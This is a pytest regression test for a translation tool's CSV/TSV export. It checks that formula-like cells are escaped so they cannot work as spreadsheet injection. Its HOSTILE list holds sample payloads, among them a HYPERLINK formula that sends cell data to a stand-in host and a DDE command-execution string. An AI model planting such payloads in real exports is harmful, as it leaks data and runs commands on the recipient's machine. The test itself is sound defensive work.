"""Project CSV/TSV exports never carry a live spreadsheet formula (OWASP CSV injection).

Before, a cell starting with =, +, -, @ was written verbatim: =HYPERLINK(...) from an
article leaked data when the reviewer clicked it in Excel.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from documents.export import export_project
from documents.project import Project, Status

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_formula_like_cells_are_written_as_text(tmp_path: Path, suffix: str) -> None:
    source = "\n\n".join(f"문장 {i}입니다." for i in range(len(HOSTILE)))
    project = Project.create(tmp_path / "p.hanbit", source_text=source, source_lang="ko",
                             target_lang="en")  # fmt: skip
    for segment, text in zip(project.segments(), HOSTILE, strict=True):
        project.set_target(segment.id, text, status=Status.TRANSLATED)
        project.set_comment(segment.id, text)
    out = tmp_path / f"out{suffix}"
    export_project(project, out)
    project.close()
    raw = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw), delimiter="," if suffix == ".csv" else "\t"))
    header, body = rows[0], rows[1:]
    target, comment = header.index("target"), header.index("comment")
    for row, text in zip(body, HOSTILE, strict=True):
        assert row[target] == "'" + text and row[comment] == "'" + text
        assert not row[target].startswith(("=", "+", "-", "@", "\t"))
    assert body[0][header.index("source")] == "문장 0입니다."  # plain text stays as it is
